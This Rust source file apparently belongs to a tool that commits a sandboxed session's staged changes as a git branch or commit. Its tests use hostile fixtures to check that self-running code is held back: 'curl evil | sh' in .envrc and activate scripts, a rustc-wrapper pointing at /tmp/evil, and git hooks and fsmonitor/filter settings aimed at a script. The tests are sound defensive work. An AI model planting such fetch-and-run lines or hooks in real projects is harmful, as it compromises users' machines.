//! `stockade apply --branch` and `--commit`: staged changes landing as a
//! git commit (see `changes::git`), reported as an apply is.

use std::collections::HashSet;
use std::io::{self, Write};
use std::path::Path;
use std::process::ExitCode;

use anyhow::{Context, bail};

use crate::changes::git::{self, GitError, LeftOut, Repo};
use crate::changes::{Selection, StoredEntry};
use crate::protocol::change_set::{Entry, EntryState, RelPath};
use crate::review::{Painter, Role, implied_dirs, plural, write_held_back};

use super::sessions::{Here, Target};

/// The workspace's repository and its `HEAD` commit (`None`: unborn).
pub(super) fn git_head(workspace: &Path) -> anyhow::Result<(Repo, Option<String>)> {
    let repo = Repo::open(workspace)?;
    let head = repo.head()?;
    Ok((repo, head))
}

/// The commit `--branch` builds on: the one the session started from, or
/// (not recorded) the current `HEAD`.
fn branch_base(repo: &Repo, target: &Target) -> anyhow::Result<Option<String>> {
    match target.record.as_ref().and_then(|r| r.git_head.as_deref()) {
        Some(commit) => Ok(Some(repo.base(commit)?)),
        None => Ok(repo.head()?),
    }
}

/// The repository and the commit `--branch` builds on, whose tree the
/// review judges with the working tree's: the branch holds the changes
/// over that tree, whatever the working tree has now. `None`: no base
/// commit (an unborn branch).
pub(super) fn branch_base_of(target: &Target) -> anyhow::Result<Option<(Repo, String)>> {
    let repo = Repo::open(&target.workspace)?;
    Ok(branch_base(&repo, target)?.map(|base| (repo, base)))
}

/// Changes landing as a git commit: `--branch` and `--commit`.
pub(super) struct Landing<'a> {
    pub target: &'a Target,
    pub message: Option<&'a str>,
    pub sensitive: &'a [(RelPath, &'static str)],
    pub held: &'a [(RelPath, &'static str)],
}

/// Paths left out of a commit listed before the rest are counted.
const LEFT_LISTED: usize = 20;

impl Landing<'_> {
    /// `--branch NAME`: the chosen staged changes as one commit on a new
    /// branch, parented on the commit the session started from; marked
    /// applied. Exits 1 when chosen changes stay staged (as a plain apply).
    pub fn branch(&self, name: &str, selection: &Selection, here: &mut Here<'_>) -> anyhow::Result<ExitCode> {
        let target = self.target;
        let repo = Repo::open(&target.workspace)?;
        let reference = repo.new_branch(name)?;
        if git::apply_interrupted(&target.store) {
            bail!(
                "an apply of session {id} to {} was interrupted; complete it first with `stockade apply {id}` \
                 (it finishes what was started), then make the branch",
                target.workspace.display(),
                id = target.id
            );
        }
        let _lock = target.store.lock().with_context(|| format!("cannot make a branch of session {}", target.id))?;
        let recorded = target.record.as_ref().and_then(|r| r.git_head.as_deref());
        let painter = Painter::new(here.color.enabled(here.terminal));
        let parent = match recorded {
            Some(commit) => Some(repo.base(commit)?),
            None => {
                let head = repo.head()?;
                writeln!(
                    here.err,
                    "stockade: session {} did not record the commit it started from (it ran outside a repository, \
                     on an unborn branch, or before stockade recorded it); the branch starts from the current HEAD{}",
                    target.id,
                    head.as_deref().map(|h| format!(" {}", short(h))).unwrap_or_default()
                )?;
                head
            }
        };
        let entries: Vec<StoredEntry> = target
            .store
            .entries()?
            .into_iter()
            .filter(|e| e.state == EntryState::Staged && selection.matches(&e.entry.path))
            .collect();
        if entries.is_empty() && !self.held.is_empty() {
            writeln!(here.out, "stockade: no branch was made: every chosen change runs code by itself")?;
            write_held_back(here.out, painter, self.held, &target.id)?;
            return Ok(ExitCode::from(1));
        }
        if entries.is_empty() {
            bail!(
                "session {} has no staged change to commit; `stockade diff {}` shows its changes",
                target.id,
                target.id
            );
        }
        let chosen: Vec<&Entry> = entries.iter().map(|e| &e.entry).collect();
        let message = self.message(&format!("--branch {name}"));
        let landed = match repo.branch(&target.store, &reference, parent.as_deref(), &chosen, &message) {
            Err(GitError::NothingToCommit { left }) => {
                write_left(here.out, &left, "left out of the commit (still staged)")?;
                write_held_back(here.out, painter, self.held, &target.id)?;
                bail!("no branch was made: nothing chosen from session {} can be committed", target.id);
            }
            landed => landed?,
        };
        target.store.set_states(&landed.committed, EntryState::Applied)?;
        drop(_lock);

        let implied = implied_dirs(&target.store)?;
        let out = &mut *here.out;
        let count = landed.committed.iter().filter(|p| !implied.contains(*p)).count();
        let from = match &landed.parent {
            Some(parent) => format!("on {}", short(parent)),
            None => "as a root commit".to_string(),
        };
        writeln!(
            out,
            "stockade: {} of session {} committed as {} on the new branch {}, {from}",
            plural(count, "change", "changes"),
            target.id,
            painter.paint(Role::Heading, short(&landed.commit)),
            painter.paint(Role::Heading, name)
        )?;
        writeln!(
            out,
            "stockade: the working tree and git's index are untouched; review with `git show {name}`, \
             merge with `git merge {name}` or switch with `git switch {name}`"
        )?;
        self.write_code(out, painter, &landed.committed, "the branch holds files that run code by themselves:")?;
        let blocking = write_left(out, &landed.left, "left out of the commit (still staged)")?;
        write_held_back(out, painter, self.held, &target.id)?;
        Ok(if blocking || !self.held.is_empty() { ExitCode::from(1) } else { ExitCode::SUCCESS })
    }

    /// `--commit`: what the apply wrote, committed on the current branch.
    /// Whether some applied change is not in the commit for a reason the
    /// user must act on.
    pub fn commit(
        &self,
        repo: &Repo,
        head: Option<&str>,
        applied: &[RelPath],
        here: &mut Here<'_>,
    ) -> anyhow::Result<bool> {
        let out = &mut *here.out;
        if applied.is_empty() {
            writeln!(out, "stockade: nothing was applied, so nothing was committed")?;
            return Ok(false);
        }
        let applied: HashSet<&RelPath> = applied.iter().collect();
        let entries: Vec<StoredEntry> =
            self.target.store.entries()?.into_iter().filter(|e| applied.contains(&e.entry.path)).collect();
        let chosen: Vec<&Entry> = entries.iter().map(|e| &e.entry).collect();
        let message = self.message("--commit");
        let landed = match repo.commit_on_head(&self.target.store, head, &chosen, &message) {
            Err(GitError::NothingToCommit { left }) => {
                writeln!(out, "stockade: nothing that was applied can be committed")?;
                return Ok(write_left(out, &left, "applied but not committed")?);
            }
            landed => landed.with_context(|| {
                format!("the changes were applied to {} but not committed", self.target.workspace.display())
            })?,
        };
        let implied = implied_dirs(&self.target.store)?;
        let count = landed.committed.iter().filter(|p| !implied.contains(*p)).count();
        let painter = Painter::new(here.color.enabled(here.terminal));
        writeln!(
            out,
            "stockade: committed {} as {} on the current branch (other paths staged in git's index stay staged)",
            plural(count, "applied change", "applied changes"),
            painter.paint(Role::Heading, short(&landed.commit))
        )?;
        Ok(write_left(out, &landed.left, "applied but not committed")?)
    }

    /// Before `--commit` writes the workspace: git can take every chosen
    /// change (its names, its objects), so that the commit after the apply
    /// does not fail on one of them.
    pub fn check_commit(&self, repo: &Repo, head: Option<&str>, selection: &Selection) -> anyhow::Result<()> {
        let entries: Vec<StoredEntry> = self
            .target
            .store
            .entries()?
            .into_iter()
            .filter(|e| e.state == EntryState::Staged && selection.matches(&e.entry.path))
            .collect();
        let chosen: Vec<&Entry> = entries.iter().map(|e| &e.entry).collect();
        repo.check_commit(&self.target.store, head, &chosen).with_context(|| {
            format!("nothing was applied: the changes of session {} cannot be committed", self.target.id)
        })
    }

    /// The commit message: the user's, or one naming the session and its
    /// command.
    fn message(&self, how: &str) -> String {
        if let Some(message) = self.message {
            return format!("{}\n", message.trim_end());
        }
        let command = self.target.record.as_ref().map(|r| r.command.join(" ")).unwrap_or_default();
        let mut subject = format!("stockade session {}: {command}", self.target.id);
        if subject.chars().count() > SUBJECT_MAX {
            subject = subject.chars().take(SUBJECT_MAX - 1).collect::<String>() + "…";
        }
        format!(
            "{subject}\n\nThe changes the command `{command}` made in stockade session {}, \
             committed by `stockade apply {how}`.\n",
            self.target.id
        )
    }

    fn write_code(&self, out: &mut dyn Write, p: Painter, committed: &[RelPath], heading: &str) -> io::Result<()> {
        let landed: Vec<&(RelPath, &str)> =
            self.sensitive.iter().filter(|(path, _)| committed.contains(path)).collect();
        if !landed.is_empty() {
            writeln!(out, "stockade: {}", p.paint(Role::Danger, heading))?;
            for (path, why) in landed {
                writeln!(out, "  {path}: {why}")?;
            }
        }
        Ok(())
    }
}

/// A commit subject longer than this is cut.
const SUBJECT_MAX: usize = 72;

/// Lists what a commit left out; whether any of it needs the user (paths
/// inside `.git` and ignored paths are left out by design).
fn write_left(out: &mut dyn Write, left: &[(RelPath, LeftOut)], heading: &str) -> io::Result<bool> {
    if left.is_empty() {
        return Ok(false);
    }
    writeln!(out, "stockade: {heading}:")?;
    for (path, why) in left.iter().take(LEFT_LISTED) {
        writeln!(out, "  {path}: {}", why.explain())?;
    }
    if left.len() > LEFT_LISTED {
        writeln!(out, "  … and {} more", left.len() - LEFT_LISTED)?;
    }
    Ok(left.iter().any(|(_, why)| !matches!(why, LeftOut::GitDir | LeftOut::Ignored)))
}

/// A commit id as people quote it.
fn short(id: &str) -> &str {
    &id[..id.len().min(12)]
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;
    use std::fs;
    use std::os::unix::fs::PermissionsExt;
    use std::path::PathBuf;

    use super::super::{ApplyArgs, execute};
    use super::*;
    use crate::changes::Store;
    use crate::changes::testutil::{Set, git, have_git, write};
    use crate::cli::sessions::fixture::*;
    use crate::session::sessions_dir;

    const ID: &str = "20250301-101500-aaaa";

    /// A repository at `dir` with one commit of `files`; its id.
    fn repo(dir: &Path, files: &[(&str, &[u8])]) -> String {
        git(dir, &["init", "-q"]);
        git(dir, &["config", "user.name", "Test"]);
        git(dir, &["config", "user.email", "test@example.com"]);
        for (path, content) in files {
            write(&dir.join(path), content);
        }
        git(dir, &["add", "-A"]);
        git(dir, &["commit", "-q", "-m", "base"]);
        git(dir, &["rev-parse", "HEAD"]).trim().to_string()
    }

    /// Records `head` as the commit session `id` started from, as a run does.
    fn started_from(f: &Fixture, id: &str, head: &str) {
        let path = sessions_dir(&f.data).join(id).join("run.json");
        let mut record: serde_json::Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
        record["git_head"] = head.into();
        fs::write(&path, serde_json::to_vec(&record).unwrap()).unwrap();
    }

    /// Every file of the working tree and git's index and HEAD, by path: what
    /// a branch must not change.
    fn snapshot(ws: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u32)> {
        let mut out = BTreeMap::new();
        let mut stack = vec![ws.to_path_buf()];
        while let Some(dir) = stack.pop() {
            for e in fs::read_dir(&dir).unwrap() {
                let path = e.unwrap().path();
                let meta = fs::symlink_metadata(&path).unwrap();
                if path == ws.join(".git") {
                    continue;
                } else if meta.is_dir() {
                    stack.push(path);
                } else if meta.file_type().is_symlink() {
                    out.insert(path.clone(), (fs::read_link(&path).unwrap().into_os_string().into_encoded_bytes(), 0));
                } else {
                    out.insert(path.clone(), (fs::read(&path).unwrap(), meta.permissions().mode()));
                }
            }
        }
        for name in ["index", "HEAD"] {
            let path = ws.join(".git").join(name);
            out.insert(path.clone(), (fs::read(&path).unwrap(), 0));
        }
        out
    }

    fn staged(f: &Fixture, id: &str) -> usize {
        Store::open(&sessions_dir(&f.data).join(id)).unwrap().counts().unwrap().staged
    }

    #[test]
    fn a_branch_holds_exactly_the_staged_changes_and_touches_neither_tree_nor_index() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let base = repo(&f.ws, &[("a.txt", b"a\n"), ("gone.txt", b"bye\n"), ("keep.txt", b"keep\n")]);
        session(&f, ID, |ws, store| {
            Set::new(ws)
                .file("a.txt", b"guest\n", 0o644)
                .delete("gone.txt")
                .symlink("link", "a.txt")
                .file("run.sh", b"#!/bin/sh\necho hi\n", 0o755)
                .stage(store)
        });
        started_from(&f, ID, &base);
        // The user goes on meanwhile: an edit staged in git, another not.
        write(&f.ws.join("keep.txt"), b"user staged\n");
        git(&f.ws, &["add", "keep.txt"]);
        write(&f.ws.join("a.txt"), b"user edit\n");
        let before = snapshot(&f.ws);

        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "agent/one"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        assert_eq!(snapshot(&f.ws), before, "working tree and index untouched");
        assert_eq!(git(&f.ws, &["rev-list", "--count", &format!("{base}..agent/one")]).trim(), "1");
        assert_eq!(git(&f.ws, &["rev-parse", "agent/one^"]).trim(), base);
        let diff = git(&f.ws, &["diff", "--name-status", &base, "agent/one"]);
        assert_eq!(diff, "M\ta.txt\nD\tgone.txt\nA\tlink\nA\trun.sh\n");
        assert_eq!(git(&f.ws, &["show", "agent/one:a.txt"]), "guest\n");
        let tree = git(&f.ws, &["ls-tree", "agent/one"]);
        assert!(tree.contains("100755 blob") && tree.contains("\trun.sh"), "{tree}");
        assert!(tree.contains("120000 blob") && tree.contains("\tlink"), "{tree}");
        assert_eq!(git(&f.ws, &["cat-file", "-p", "agent/one:link"]), "a.txt");
        let message = git(&f.ws, &["log", "-1", "--format=%B", "agent/one"]);
        assert!(message.starts_with(&format!("stockade session {ID}: make all things")), "{message}");
        assert!(out.contains("committed as ") && out.contains("on the new branch agent/one"), "{out}");
        assert!(out.contains("`git merge agent/one`") && out.contains("`git switch agent/one`"), "{out}");
        assert_eq!(staged(&f, ID), 0, "the session is applied");

        // An existing name is refused and changes nothing.
        session(&f, "20250301-111500-bbbb", |ws, store| Set::new(ws).file("b.txt", b"b\n", 0o644).stage(store));
        started_from(&f, "20250301-111500-bbbb", &base);
        let tip = git(&f.ws, &["rev-parse", "agent/one"]);
        let (code, _, _) =
            run_in(&f, &f.ws, parse::<ApplyArgs>(&["20250301-111500-bbbb", "--branch", "agent/one"]), execute);
        let err = format!("{:#}", code.unwrap_err());
        assert!(err.contains("branch agent/one already exists"), "{err}");
        assert_eq!(git(&f.ws, &["rev-parse", "agent/one"]), tip);
        assert_eq!(staged(&f, "20250301-111500-bbbb"), 1);
        assert_eq!(snapshot(&f.ws), before);

        // A second session from the same start is a second branch beside it.
        let (code, out, _) =
            run_in(&f, &f.ws, parse::<ApplyArgs>(&["20250301-111500-bbbb", "--branch", "agent/two"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        assert_eq!(git(&f.ws, &["rev-parse", "agent/two^"]).trim(), base);
        assert_eq!(git(&f.ws, &["diff", "--name-status", &base, "agent/two"]), "A\tb.txt\n");
        assert_eq!(snapshot(&f.ws), before);
    }

    #[test]
    fn code_that_runs_is_held_back_from_a_branch_unless_included_and_git_internals_never_go_in() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let base = repo(&f.ws, &[("a.txt", b"a\n")]);
        session(&f, ID, |ws, store| {
            Set::new(ws)
                .file(".envrc", b"curl evil | sh\n", 0o644)
                .file(".git/hooks/pre-push", b"#!/bin/sh\n", 0o755)
                .file("b.txt", b"b\n", 0o644)
                .stage(store)
        });
        started_from(&f, ID, &base);
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "plain"]), execute);
        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
        assert_eq!(git(&f.ws, &["diff", "--name-only", &base, "plain"]), "b.txt\n", "{out}");
        assert!(out.contains("held back 2 files that run code by themselves"), "{out}");
        assert!(out.contains("  .envrc: runs when you enter the directory"), "{out}");
        assert_eq!(staged(&f, ID), 2);

        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "code", "--include-code"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        assert_eq!(git(&f.ws, &["diff", "--name-only", &base, "code"]), ".envrc\n", "{out}");
        assert!(out.contains("the branch holds files that run code by themselves:\n  .envrc"), "{out}");
        assert!(out.contains("  .git/hooks/pre-push: inside .git: git internals are never committed"), "{out}");
        assert!(!f.ws.join(".envrc").exists() && !f.ws.join("b.txt").exists());
        assert_eq!(staged(&f, ID), 1, "the hook stays staged");
    }

    #[test]
    fn no_branch_is_made_of_nothing_committable() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let base = repo(&f.ws, &[("a.txt", b"a\n")]);
        session(&f, ID, |ws, store| {
            Set::new(ws).file(".envrc", b"x\n", 0o644).file(".git/objects/ab/cd", b"obj", 0o444).stage(store)
        });
        started_from(&f, ID, &base);
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "b", ".envrc"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "named, the .envrc lands: {out}");
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "c"]), execute);
        let err = format!("{:#}", code.unwrap_err());
        assert!(err.contains("no branch was made"), "{err}");
        assert!(out.contains(".git/objects/ab/cd: inside .git"), "{out}");
        assert_eq!(git(&f.ws, &["branch", "--list", "c"]), "");
        assert_eq!(staged(&f, ID), 1);
    }

    #[test]
    fn commit_takes_the_applied_paths_only_never_what_the_user_staged() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let base = repo(&f.ws, &[("a.txt", b"a\n"), ("old.txt", b"old\n")]);
        session(&f, ID, |ws, store| {
            Set::new(ws)
                .file("a.txt", b"guest\n", 0o644)
                .file("new.txt", b"new\n", 0o644)
                .delete("old.txt")
                .stage(store)
        });
        write(&f.ws.join("mine.txt"), b"the user's, staged\n");
        git(&f.ws, &["add", "mine.txt"]);

        let (code, out, _) =
            run_in(&f, &f.ws, parse::<ApplyArgs>(&["--commit", "-m", "Take the agent's work"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        assert_eq!(fs::read(f.ws.join("a.txt")).unwrap(), b"guest\n");
        assert_eq!(git(&f.ws, &["rev-parse", "HEAD^"]).trim(), base);
        assert_eq!(git(&f.ws, &["diff", "--name-status", "HEAD^", "HEAD"]), "M\ta.txt\nA\tnew.txt\nD\told.txt\n");
        assert_eq!(git(&f.ws, &["log", "-1", "--format=%B"]).trim(), "Take the agent's work");
        assert_eq!(git(&f.ws, &["status", "--porcelain"]), "A  mine.txt\n", "only the user's path is still staged");
        assert!(out.contains("committed 3 applied changes as "), "{out}");
    }

    #[test]
    fn refuses_outside_a_repository_and_bad_names_without_change() {
        if !have_git() {
            return;
        }
        let f = fixture();
        session(&f, ID, |ws, store| Set::new(ws).file("a.txt", b"a\n", 0o644).stage(store));
        let (code, _, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "x"]), execute);
        let err = format!("{:#}", code.unwrap_err());
        assert!(err.contains("is not in a git repository") && err.contains("git init"), "{err}");
        let (code, _, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--commit"]), execute);
        assert!(format!("{:#}", code.unwrap_err()).contains("is not in a git repository"));
        assert!(!f.ws.join("a.txt").exists(), "--commit checks the repository before applying");

        repo(&f.ws, &[("keep", b"k\n")]);
        for bad in ["bad..name", "-x", "@{-1}", "a b", "x.lock", "HEAD"] {
            let flag = format!("--branch={bad}");
            let (code, _, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&[&flag]), execute);
            let err = format!("{:#}", code.unwrap_err());
            assert!(err.contains("is not a valid branch name"), "{bad}: {err}");
        }
        let (code, _, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["-m", "x"]), execute);
        assert!(format!("{:#}", code.unwrap_err()).contains("--branch NAME or --commit"));
        assert_eq!(staged(&f, ID), 1);
        assert!(!f.ws.join("a.txt").exists());
    }

    #[test]
    fn ignored_paths_stay_out_and_a_workspace_below_the_top_of_its_repository_lands_there() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let top = f.ws.parent().unwrap().to_path_buf();
        let base = repo(&top, &[(".gitignore", b"target/\ndata/\n"), ("ws/a.txt", b"a\n")]);
        session(&f, ID, |ws, store| {
            Set::new(ws)
                .file("a.txt", b"guest\n", 0o644)
                .dir("target", 0o755)
                .file("target/out.bin", b"built\n", 0o644)
                .stage(store)
        });
        started_from(&f, ID, &base);
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "b"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "ignored paths are left out by design: {out}");
        assert_eq!(git(&top, &["diff", "--name-only", &base, "b"]), "ws/a.txt\n");
        assert!(out.contains("  target/out.bin: ignored by git"), "{out}");
        assert_eq!(staged(&f, ID), 1);
    }

    #[test]
    fn a_hostile_repository_config_runs_nothing() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let base = repo(&f.ws, &[("a.txt", b"a\n"), (".gitattributes", b"* filter=evil\n")]);
        let marker = f.ws.parent().unwrap().join("ran");
        let script = f.ws.parent().unwrap().join("evil.sh");
        write(&script, format!("#!/bin/sh\necho \"$0 $*\" >> {}\ncat\n", marker.display()).as_bytes());
        fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).unwrap();
        let program = script.display().to_string();
        for (key, value) in [
            ("core.fsmonitor", program.as_str()),
            ("filter.evil.clean", program.as_str()),
            ("filter.evil.smudge", program.as_str()),
            ("core.sshCommand", program.as_str()),
            ("gpg.program", program.as_str()),
            ("commit.gpgSign", "true"),
        ] {
            git(&f.ws, &["config", key, value]);
        }
        for hook in ["reference-transaction", "pre-commit", "post-commit", "commit-msg", "post-index-change"] {
            let path = f.ws.join(".git/hooks").join(hook);
            write(&path, format!("#!/bin/sh\necho {hook} >> {}\n", marker.display()).as_bytes());
            fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
        }
        session(&f, ID, |ws, store| Set::new(ws).file("a.txt", b"guest\n", 0o644).stage(store));
        started_from(&f, ID, &base);
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "b"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        // Content as staged: no clean filter.
        assert_eq!(git(&f.ws, &["cat-file", "-p", "b:a.txt"]), "guest\n");
        session(&f, "20250301-111500-bbbb", |ws, store| Set::new(ws).file("c.txt", b"c\n", 0o644).stage(store));
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["20250301-111500-bbbb", "--commit"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        assert!(!marker.exists(), "ran: {}", fs::read_to_string(&marker).unwrap_or_default());
        assert!(!git(&f.ws, &["cat-file", "-p", "HEAD"]).contains("gpgsig"), "unsigned");
    }

    #[test]
    fn code_reached_through_a_symlink_of_the_base_commit_is_held_back_from_a_branch() {
        if !have_git() {
            return;
        }
        let f = fixture();
        git(&f.ws, &["init", "-q"]);
        write(&f.ws.join("ci/cargo/README"), b"shared cargo settings\n");
        std::os::unix::fs::symlink("ci/cargo", f.ws.join(".cargo")).unwrap();
        git(&f.ws, &["add", "-A"]);
        git(&f.ws, &["commit", "-q", "-m", "base"]);
        let base = git(&f.ws, &["rev-parse", "HEAD"]).trim().to_string();
        // The guest, started at base, writes cargo's config through the
        // symlink: the change is staged at the symlink's target.
        session(&f, ID, |ws, store| {
            Set::new(ws).file("ci/cargo/config.toml", b"[build]\nrustc-wrapper = \"/tmp/evil\"\n", 0o644).stage(store)
        });
        started_from(&f, ID, &base);
        // The user has switched to a branch without the symlink meanwhile.
        git(&f.ws, &["switch", "-q", "-c", "other"]);
        git(&f.ws, &["rm", "-q", ".cargo"]);
        git(&f.ws, &["commit", "-q", "-m", "no .cargo"]);

        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "agent"]), execute);
        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
        assert_eq!(git(&f.ws, &["branch", "--list", "agent"]), "", "no branch of held-back code: {out}");
        assert!(out.contains("  ci/cargo/config.toml: reached through a symlink"), "{out}");
        assert_eq!(staged(&f, ID), 1);

        // Included, it lands and is named.
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "agent", "--include-code"]), execute);
        assert_eq!(code.unwrap(), ExitCode::SUCCESS, "{out}");
        assert!(out.contains("the branch holds files that run code by themselves:\n  ci/cargo/config.toml"), "{out}");
    }

    /// What decides on the base commit which files run code is judged, not
    /// only the working tree's: there an `.envrc` puts `tools/` on PATH and
    /// `venv/` is a virtualenv, though the working tree has neither now.
    #[test]
    fn code_that_runs_by_the_base_commits_envrc_and_virtualenv_is_held_back_from_a_branch() {
        if !have_git() {
            return;
        }
        let f = fixture();
        git(&f.ws, &["init", "-q"]);
        write(&f.ws.join(".envrc"), b"PATH_add tools\n");
        write(&f.ws.join("venv/pyvenv.cfg"), b"home = /usr/bin\n");
        write(&f.ws.join("README"), b"base\n");
        git(&f.ws, &["add", "-A"]);
        git(&f.ws, &["commit", "-q", "-m", "base"]);
        let base = git(&f.ws, &["rev-parse", "HEAD"]).trim().to_string();
        session(&f, ID, |ws, store| {
            Set::new(ws)
                .dir("tools", 0o755)
                .file("tools/git", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
                .dir("venv/bin", 0o755)
                .file("venv/bin/activate", b"curl evil | sh\n", 0o644)
                .file("b.txt", b"b\n", 0o644)
                .stage(store)
        });
        started_from(&f, ID, &base);
        // The user has switched to a branch without either meanwhile.
        git(&f.ws, &["switch", "-q", "-c", "other"]);
        git(&f.ws, &["rm", "-q", "-r", ".envrc", "venv"]);
        git(&f.ws, &["commit", "-q", "-m", "neither"]);

        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "agent"]), execute);
        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
        assert!(out.contains("  tools/git: on PATH in this directory (direnv)"), "{out}");
        assert!(out.contains("  venv/bin/activate: virtualenv script"), "{out}");
        assert_eq!(git(&f.ws, &["diff", "--name-only", &base, "agent"]), "b.txt\n", "{out}");
        assert_eq!(staged(&f, ID), 2, "{out}");
    }

    #[test]
    fn a_path_git_refuses_is_not_reported_committed_nor_marked_applied() {
        if !have_git() {
            return;
        }
        let f = fixture();
        let base = repo(&f.ws, &[("a.txt", b"a\n")]);
        // `GIT~1` is `.git`'s short name on NTFS: git's index refuses it
        // (core.protectNTFS), saying "Ignoring path" and exiting 0.
        session(&f, ID, |ws, store| {
            Set::new(ws)
                .file("b.txt", b"b\n", 0o644)
                .dir("GIT~1", 0o755)
                .file("GIT~1/notes.txt", b"n\n", 0o644)
                .dir(".git.", 0o755)
                .file(".git./x", b"x\n", 0o644)
                .symlink(".gitmodules", "a.txt")
                .stage(store)
        });
        started_from(&f, ID, &base);
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--branch", "b"]), execute);
        let tree = git(&f.ws, &["ls-tree", "-r", "--name-only", "b"]);
        let store = Store::open(&sessions_dir(&f.data).join(ID)).unwrap();
        let applied = store.entries().unwrap().into_iter().any(|e| {
            e.entry.path.to_string() == "GIT~1/notes.txt" && e.state == crate::protocol::change_set::EntryState::Applied
        });
        assert!(
            tree.contains("GIT~1/notes.txt") || !applied,
            "GIT~1/notes.txt is marked applied but the branch does not hold it (the change is gone):\n{tree}\n{out}"
        );
        assert_eq!(code.unwrap(), ExitCode::from(1), "{out}");
        assert_eq!(tree, "a.txt\nb.txt\n");
        for path in ["GIT~1/notes.txt", ".git./x", ".gitmodules"] {
            assert!(out.contains(&format!("  {path}: git refuses this path")), "{path}: {out}");
        }
        assert!(out.contains("1 change of session"), "{out}");
        assert_eq!(staged(&f, ID), 5, "the refused paths and their directories stay staged");
    }

    #[test]
    fn a_file_named_like_pathspec_magic_does_not_break_the_commit() {
        if !have_git() {
            return;
        }
        let f = fixture();
        repo(&f.ws, &[("a.txt", b"a\n")]);
        // A name the guest chose: git's pathspec syntax for "exclude".
        session(&f, ID, |ws, store| {
            Set::new(ws).file("a.txt", b"guest\n", 0o644).file(":!x", b"x\n", 0o644).stage(store)
        });
        let head = git(&f.ws, &["rev-parse", "HEAD"]);
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&["--commit"]), execute);
        let code = code.map_err(|e| format!("{e:#}"));
        assert!(
            code.is_ok() && git(&f.ws, &["rev-parse", "HEAD"]) != head,
            "--commit wrote the workspace but did not commit: {code:?}\n{out}"
        );
        assert_eq!(git(&f.ws, &["show", "HEAD:./:!x"]), "x\n");

        // Nor another pathspec form, nor a path below a symlink of the
        // working tree, on a branch.
        let other = "20250301-111500-bbbb";
        session(&f, other, |ws, store| {
            Set::new(ws).file(":(top)y", b"y\n", 0o644).dir("lnk", 0o755).file("lnk/z", b"z\n", 0o644).stage(store)
        });
        std::os::unix::fs::symlink("elsewhere", f.ws.join("lnk")).unwrap();
        let (code, out, _) = run_in(&f, &f.ws, parse::<ApplyArgs>(&[other, "--branch", "b"]), execute);
        assert_eq!(code.map_err(|e| format!("{e:#}")), Ok(ExitCode::SUCCESS), "{out}");
        assert_eq!(git(&f.ws, &["diff", "--name-only", "HEAD", "b"]), ":(top)y\nlnk/z\n");
    }
}
